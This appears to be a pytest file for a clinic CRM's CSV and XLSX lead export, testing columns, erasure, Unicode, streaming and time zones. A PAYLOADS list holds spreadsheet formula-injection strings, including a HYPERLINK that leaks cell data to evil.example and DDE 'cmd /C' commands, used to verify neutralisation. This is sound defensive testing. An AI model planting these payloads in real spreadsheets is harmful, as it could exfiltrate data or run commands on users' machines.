"""What an export holds: the columns, formula neutralisation, scripts and emoji, typed XLSX."""

from __future__ import annotations

import os
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl.worksheet import _writer as openpyxl_writer

from crm.leads.export import HEADER
from crm.leads.export.rows import BranchClock
from crm.leads.export.writers import xlsx_chunks
from crm.models import ExportStatus, Lead, LeadStatus
from crm.platform.extensions import db
from tests.appointment_helpers import add_appointment, add_clinician
from tests.export_helpers import (
    capture,
    csv_records,
    csv_table,
    download,
    export_form,
    export_records,
    xlsx_records,
    xlsx_sheet,
)
from tests.staff_helpers import enter_as, make_staff

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def manager(app):
    return enter_as(app.test_client(), app, make_staff(app, "manager", "hyderabad", name="Hema"))


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def wall(text: str) -> datetime:
    """A spreadsheet's date: the branch's wall-clock time, with no time zone."""
    return datetime.fromisoformat(text)


def test_one_row_per_lead_with_every_column(app, manager):
    agent = make_staff(app, "agent", "hyderabad", name="Hari Agent")
    lead_id = capture(
        app,
        "hyderabad",
        name="Anita Rao",
        phone="+919845012345",
        email="anita@example.com",
        interest="knee_pain",
        message="Knee hurts on stairs.",
        source_page="/blog/knee-pain-stairs",
        utm={"utm_source": "google", "utm_medium": "cpc", "utm_campaign": "knees-nov"},
        at=at("2026-10-31T18:40:00"),  # 00:10 on 1 November in Hyderabad
    )
    capture(
        app,
        "hyderabad",
        name="Anita Rao",
        phone="+919845012345",
        message="Any slot on Saturday?",
        source_page="/contact",
        utm={"utm_source": "instagram", "utm_medium": "social"},
        at=at("2026-11-02T05:00:00"),
    )
    capture(
        app,
        "hyderabad",
        name="Anita Rao",
        phone="+919845012345",
        message=None,
        source_page="/branches/hyderabad",
        at=at("2026-11-03T05:00:00"),
        language="te",  # the latest enquiry's language is the one the person prefers
    )
    with app.app_context():
        lead = db.session.get(Lead, lead_id)
        lead.status = LeadStatus.LOST
        lead.lost_reason = "chose_another_clinic"
        lead.assignee_id = agent
        lead.first_response_at = at("2026-10-31T19:05:00")
        lead.next_follow_up_at = at("2026-12-01T04:30:00")
        db.session.commit()
        reference = lead.reference
    capture(app, "hyderabad", name="Other Person", phone="+919845099999")

    table = csv_table(download(manager).data)
    assert tuple(table[0]) == HEADER
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert len(rows) == 2
    assert rows[0] == {
        "Reference": reference,
        "Created (branch time)": "2026-11-01 00:10",
        "Name": "Anita Rao",
        "Phone": "+91 98450 12345",
        "Email": "anita@example.com",
        "Branch": "Hyderabad",
        "Language": "Telugu",
        "Interest": "Knee or joint pain",
        "Status": "Lost",
        "Lost reason": "Chose another clinic",
        "Assignee": "Hari Agent",
        "First response at (branch time)": "2026-11-01 00:35",
        "Next follow-up (branch time)": "2026-12-01 10:00",
        "Enquiries": "3",
        "First source page": "/blog/knee-pain-stairs",
        "Last source page": "/branches/hyderabad",
        "UTM source (first enquiry)": "google",
        "UTM medium (first enquiry)": "cpc",
        "UTM campaign (first enquiry)": "knees-nov",
        "Latest message": "Any slot on Saturday?",
        "Other phones": "",  # every enquiry came from the lead's own number
        "Next appointment (branch time)": "",
        "Next appointment kind": "",
        "Next appointment clinician": "",
        "Appointments attended": "0",
        "No-shows": "0",
    }
    assert rows[1]["Name"] == "Other Person" and rows[1]["Assignee"] == ""

    sheet = xlsx_sheet(download(manager, format="xlsx").data)
    header, first = (next(sheet.iter_rows(min_row=r, max_row=r)) for r in (1, 2))
    cells = {title.value: cell for title, cell in zip(header, first, strict=True)}
    assert tuple(cells) == HEADER
    assert cells["Created (branch time)"].value == wall("2026-11-01 00:10")
    assert cells["Created (branch time)"].number_format == "yyyy-mm-dd hh:mm"
    assert cells["Next follow-up (branch time)"].value == wall("2026-12-01 10:00")
    assert cells["Enquiries"].value == 3 and cells["Enquiries"].data_type == "n"
    assert cells["Phone"].value == "+91 98450 12345" and cells["Phone"].data_type == "s"
    assert cells["Latest message"].value == "Any slot on Saturday?"
    assert sheet.freeze_panes == "A2"


def test_appointment_columns_name_the_next_visit_and_count_the_outcomes(app, manager):
    lead_id = capture(app, "hyderabad", name="Vani Reddy", phone="+919845044444")
    quiet = capture(app, "hyderabad", name="No Visits", phone="+919845055555")
    meera = add_clinician(app, "hyderabad", "=Dr Meera")  # typed by staff: still neutralised
    now = datetime.now(UTC).replace(second=0, microsecond=0)
    upcoming = (now + timedelta(days=3)).replace(hour=4, minute=35)  # 10:05 in Hyderabad
    made = [
        (now - timedelta(days=10), "attended", "clinic", None),
        (now - timedelta(days=5), "no_show", "clinic", None),
        (now - timedelta(days=3), "no_show", "home", meera),
        (now - timedelta(hours=2), "booked", "clinic", None),  # past, outcome not recorded yet
        (now + timedelta(days=1), "cancelled", "clinic", None),
        (upcoming, "booked", "home", meera),
        (upcoming + timedelta(days=2), "booked", "clinic", None),
    ]
    for starts_at, status, kind, clinician in made:
        add_appointment(app, lead_id, starts_at, status, kind=kind, clinician_id=clinician)
    local = upcoming.astimezone(ZoneInfo("Asia/Kolkata")).replace(tzinfo=None)
    statuses = [status for _at, status, _kind, _who in made]

    rows = {row["Reference"]: row for row in csv_records(download(manager).data)}
    columns = HEADER[HEADER.index("Next appointment (branch time)") :]
    assert [rows[f"L-{lead_id:06d}"][title] for title in columns] == [
        local.strftime("%Y-%m-%d %H:%M"),
        "Home visit",
        "'=Dr Meera",
        str(statuses.count("attended")),
        str(statuses.count("no_show")),
    ]
    assert [rows[f"L-{quiet:06d}"][title] for title in columns] == ["", "", "", "0", "0"]

    cells = {row["Reference"]: row for row in xlsx_records(download(manager, format="xlsx").data)}
    assert [cells[f"L-{lead_id:06d}"][title] for title in columns] == [
        local,
        "Home visit",
        "=Dr Meera",
        statuses.count("attended"),
        statuses.count("no_show"),
    ]


def test_erased_leads_keep_their_row_but_not_the_person(app, manager):
    lead_id = capture(
        app, "hyderabad", name="Gone Person", phone="+919845033333", email="gone@example.com"
    )
    with app.app_context():
        # However erasure blanks the stored fields, an erased lead never exports them.
        db.session.get(Lead, lead_id).erased_at = at("2026-11-20T10:00:00")
        db.session.commit()
    (row,) = csv_records(download(manager).data)
    assert row["Reference"] == f"L-{lead_id:06d}"
    assert row["Name"] == row["Phone"] == row["Email"] == row["Latest message"] == ""
    assert row["Status"] == "New" and row["Enquiries"] == "1"
    (row,) = xlsx_records(download(manager, format="xlsx").data)
    assert row["Name"] is row["Phone"] is row["Email"] is row["Latest message"] is None
    assert row["Reference"] == f"L-{lead_id:06d}"


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.fixture
def hostile(app):
    """Leads whose every visitor-typed field is a formula payload; the phones as exported."""
    phones = []
    for index, payload in enumerate(PAYLOADS):
        phone = f"+9198450{index:05d}"
        phones.append(f"+91 98450 {index:05d}")
        capture(
            app,
            "hyderabad",
            name=payload,
            phone=phone,
            email=f"{payload[:1]}x{index}@example.com" if payload[0] in "=+-" else None,
            message=payload,
            source_page=payload,
            utm={"utm_source": payload, "utm_medium": payload, "utm_campaign": payload},
        )
    return phones


TEXT_COLUMNS = [
    "Name",
    "First source page",
    "Last source page",
    "UTM source (first enquiry)",
    "UTM medium (first enquiry)",
    "UTM campaign (first enquiry)",
    "Latest message",
]


def test_formula_payloads_are_neutralised_in_csv(manager, hostile):
    rows = csv_records(download(manager).data)
    assert len(rows) == len(PAYLOADS)
    for row, payload, phone in zip(rows, PAYLOADS, hostile, strict=True):
        for column in TEXT_COLUMNS:
            assert row[column] == "'" + payload, column
        if row["Email"]:
            assert row["Email"].startswith("'")
        assert row["Phone"] == phone  # spaced: text to a spreadsheet, and no apostrophe
        for column, value in row.items():
            if column != "Phone":
                assert not value.startswith(FORMULA_TRIGGERS), (column, value)


def test_formula_payloads_are_text_exactly_as_typed_in_xlsx(manager, hostile):
    """An XLSX string cell is never run as a formula, so it needs no apostrophe."""
    sheet = xlsx_sheet(download(manager, format="xlsx").data)
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    for row, payload, phone in zip(rows, PAYLOADS, hostile, strict=True):
        cells = dict(zip(header, row, strict=True))
        # XML reads a bare carriage return in text as a line feed.
        expected = payload.replace("\r", "\n")
        for column in TEXT_COLUMNS:
            assert cells[column].value == expected, column
            assert cells[column].data_type == "s", column
        if cells["Email"].value:
            assert not cells["Email"].value.startswith("'")
        assert cells["Phone"].value == phone and cells["Phone"].data_type == "s"
        for cell in row:
            assert cell.data_type != "f"


def test_xlsx_is_laid_out_for_printing(app, manager):
    """Landscape, one page wide, the header on every page, long text wrapped in its column.
    (tests/test_export_spreadsheets.py prints it with LibreOffice and counts the pages.)"""
    capture(app, "hyderabad", name="Asha", message="Lower back pain. " * 100)
    capture(app, "hyderabad", name="Ravi", message="Neck")
    sheet = xlsx_sheet(download(manager, format="xlsx").data)
    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", int(sheet.PAPERSIZE_A4))
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.freeze_panes == "A2"
    message = HEADER.index("Latest message")
    header, long, short = sheet.iter_rows(max_row=3)
    assert long[message].alignment.wrap_text
    assert not short[message].alignment.wrap_text
    # A title wider than its column wraps instead of being cut off by the next one.
    assert all(cell.alignment.wrap_text and cell.font.bold for cell in header)
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in header]
    assert widths[message] == max(widths) and min(widths) >= 9


def test_text_that_looks_like_an_excel_error_stays_text(app, manager):
    capture(app, "hyderabad", name="#N/A", message="#DIV/0!")
    (row,) = list(xlsx_sheet(download(manager, format="xlsx").data).iter_rows(min_row=2))
    name, message = row[HEADER.index("Name")], row[HEADER.index("Latest message")]
    assert (name.value, name.data_type) == ("#N/A", "s")
    assert (message.value, message.data_type) == ("#DIV/0!", "s")


NAMES = [
    "అనన్య రెడ్డి",  # Telugu
    "अनन्या शर्मा",  # Devanagari
    "Ravi 🙂 Kumar",
    "Meera 👩🏽‍⚕️ Nair",  # an emoji ZWJ sequence with a skin tone
    'Joseph D\'Souza, "Joe"',  # quotes and a comma: RFC 4180 quoting
]


def test_indian_scripts_and_emoji_survive_csv_and_xlsx(app, manager):
    for index, name in enumerate(NAMES):
        capture(
            app,
            "hyderabad",
            name=name,
            phone=f"+9199000{index:05d}",
            message=f"{name}\nరెండవ లైన్, दूसरी पंक्ति 🙏",
        )
    csv_data = download(manager).data
    assert csv_data.startswith(b"\xef\xbb\xbf")
    rows = csv_records(csv_data)
    assert [row["Name"] for row in rows] == NAMES
    assert [row["Latest message"] for row in rows] == [
        f"{name}\nరెండవ లైన్, दूसरी पंक्ति 🙏" for name in NAMES
    ]
    records = xlsx_records(download(manager, format="xlsx").data)
    assert [row["Name"] for row in records] == NAMES
    assert records[2]["Latest message"] == "Ravi 🙂 Kumar\nరెండవ లైన్, दूसरी पंक्ति 🙏"


@pytest.fixture
def app_config():
    # Two rows a batch, so five leads take three batches: the stream is really chunked.
    return {"EXPORT_BATCH_ROWS": 2}


def test_the_response_starts_before_the_export_is_done(app, manager):
    ids = [
        capture(app, "hyderabad", name=f"Person {n}", phone=f"+91990001{n:04d}") for n in range(5)
    ]
    response = manager.post(
        "/staff/exports",
        data={**_token(manager), "format": "csv"},
        buffered=False,
    )
    assert response.is_streamed
    chunks = response.iter_encoded()
    first = next(chunks)
    assert first.startswith(b"\xef\xbb\xbfReference,Created (branch time),")
    (record,) = export_records(app)
    assert record.status == ExportStatus.STARTED and record.finished_at is None
    rest = b"".join(chunks)
    response.close()
    assert [row["Reference"] for row in csv_records(first + rest)] == [
        f"L-{lead_id:06d}" for lead_id in ids
    ]
    (record,) = export_records(app)
    assert (record.status, record.row_count) == (ExportStatus.COMPLETED, 5)
    assert record.finished_at is not None


def test_an_abandoned_download_is_recorded_as_interrupted(app, manager):
    for n in range(5):
        capture(app, "hyderabad", name=f"Person {n}", phone=f"+91990002{n:04d}")
    response = manager.post(
        "/staff/exports", data={**_token(manager), "format": "csv"}, buffered=False
    )
    chunks = response.iter_encoded()
    next(chunks)  # the header
    next(chunks)  # the first two rows
    response.close()  # what the server does when the browser goes away
    (record,) = export_records(app)
    assert record.status == ExportStatus.INTERRUPTED
    assert record.row_count == 2


def _token(client) -> dict[str, str]:
    return {"csrf_token": export_form(client)["csrf_token"]}


def test_an_xlsx_export_that_fails_midway_leaves_no_temporary_file(monkeypatch):
    """openpyxl would otherwise keep the rows on disk until the (long-lived) worker exits."""
    created = []
    real = openpyxl_writer.create_temporary_file

    def tracked(suffix=""):
        created.append(real(suffix))
        return created[-1]

    monkeypatch.setattr(openpyxl_writer, "create_temporary_file", tracked)

    def batches():
        yield [["L-000001", wall("2026-11-01 10:00"), "Name"]]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        list(xlsx_chunks(batches()))
    assert created
    assert [path for path in created if os.path.exists(path)] == []
    assert not set(created) & set(openpyxl_writer.ALL_TEMP_FILES)


@pytest.mark.parametrize(
    ("zone", "day"),
    [
        ("Asia/Kolkata", "2026-11-01"),
        ("Europe/London", "2026-03-29"),  # clocks go forward at 01:00 UTC
        ("Europe/London", "2026-10-25"),  # and back
        ("America/St_Johns", "2026-03-08"),  # a half-hour zone, changing at 05:30 UTC
        ("Australia/Lord_Howe", "2026-04-05"),  # a half-hour daylight-saving shift
    ],
)
def test_branch_clock_agrees_with_zoneinfo_minute_by_minute(zone, day):
    """The clock memoises offsets per hour; around transitions it must still be exact."""
    clock = BranchClock(ZoneInfo(zone))
    start = datetime.fromisoformat(f"{day}T00:00:00+00:00") - timedelta(hours=12)
    for minute in range(0, 48 * 60, 7):
        moment = start + timedelta(minutes=minute, seconds=31, microseconds=250)
        expected = moment.astimezone(ZoneInfo(zone)).replace(tzinfo=None)
        stored = moment.replace(tzinfo=None).isoformat(" ")  # how SQLite keeps it
        assert clock.wall(stored) == expected, stored
        assert clock.wall(moment) == expected  # how PostgreSQL's driver returns it
        assert clock.text(stored) == expected.isoformat(" ", "minutes")
